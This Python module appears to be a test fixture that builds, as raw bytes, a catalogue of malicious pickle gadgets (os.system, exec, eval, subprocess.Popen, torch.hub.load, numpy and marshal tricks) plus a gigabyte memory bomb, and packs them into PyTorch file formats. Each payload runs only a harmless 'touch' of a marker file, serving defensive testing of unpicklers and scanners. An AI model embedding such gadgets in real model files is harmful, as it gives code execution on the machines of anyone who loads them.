"""Pickles that run something when they are opened by an ordinary unpickler: families of gadgets, written by hand.

Each ends in a call that makes the file ``mark``. They are bytes, not objects, so that making them runs nothing.
"""

import io
import pickle
import struct
import zipfile
from pathlib import Path

import torch

GIGABYTE = b"cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R"
"""A pickle of 30 bytes that takes a gigabyte, which PyTorch's weights-only reader allows."""


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _call(module: str, name: str, *arguments: bytes) -> bytes:
    """Opcodes that leave ``module.name(*arguments)`` on the stack."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def gadgets(mark: Path) -> dict[str, bytes]:
    """Return pickles of protocol 2, without the leading PROTO and the STOP, by the name of their family."""
    shell, code = f"touch {mark}", f"open({str(mark)!r}, 'w')"
    python = f"import pathlib; pathlib.Path({str(mark)!r}).touch()"
    argv = b"(" + _text("touch") + _text(str(mark)) + b"l"
    system = _call("posix", "system", _text(shell))
    imported = _call("builtins", "__import__", _text("os"))
    partial = b"cfunctools\npartial\n" + b"(cposix\nsystem\n" + _text(shell) + b"tR"
    return {
        "os.system": system,
        "builtins.exec": _call("builtins", "exec", _text(python)),
        "builtins.eval": _call("__builtin__", "eval", _text(code)),
        "subprocess.Popen": _call("subprocess", "Popen", argv),
        "functools.partial": partial + b"(tR",
        "getattr of an import": b"cbuiltins\ngetattr\n(" + imported + _text("system") + b"tR(" + _text(shell) + b"tR",
        "runpy": _call("runpy", "run_path", _text(str(mark))),
        "torch.hub": _call("torch.hub", "load", _text("owner/name"), _text("model")),
        "torch.load": _call("torch.serialization", "load", _text(str(mark))),
        "a call inside a dictionary": b"(" + _text("weight") + system + b"d",
        "BUILD of a state": b"ccollections\nOrderedDict\n)R}" + _text("__setstate__") + b"cposix\nsystem\nsb"
        + _text(shell) + b"b",
        "STACK_GLOBAL": b"\x8c\x05posix\x8c\x06system\x93(" + _text(shell) + b"tR",
        "INST": b"(" + _text(shell) + b"iposix\nsystem\n",
        "OBJ": b"(cposix\nsystem\n" + _text(shell) + b"o",
        "extension registry": b"\x82\x01(" + _text(shell) + b"tR",
        "persistent id": b"(" + _text("storage") + system + _text("0") + _text("cpu") + b"K\x01tQ",
        "a class of numpy": _call("numpy.core.multiarray", "scalar", _call("numpy", "dtype", _text("O8")), system),
        "code object": _call("types", "FunctionType", _call("marshal", "loads", b"U\x01N"), b"}") + b"(tR",
    }  # fmt: skip


def as_archive(body: bytes) -> bytes:
    """Return a torch file of today with this pickle."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("w/data.pkl", b"\x80\x02" + body + b".")
        archive.writestr("w/version", b"3\n")
    return stream.getvalue()


def as_legacy(body: bytes) -> bytes:
    """Return a torch file of before 2020 with this pickle: magic number, version, system, content, keys."""
    head = [pickle.dumps(value, 2) for value in (torch.serialization.MAGIC_NUMBER, 1001, {"little_endian": True})]
    return b"".join(head) + b"\x80\x02" + body + b"." + pickle.dumps([], 2)


def as_pickle(body: bytes) -> bytes:
    """Return the pickle by itself."""
    return b"\x80\x02" + body + b"."
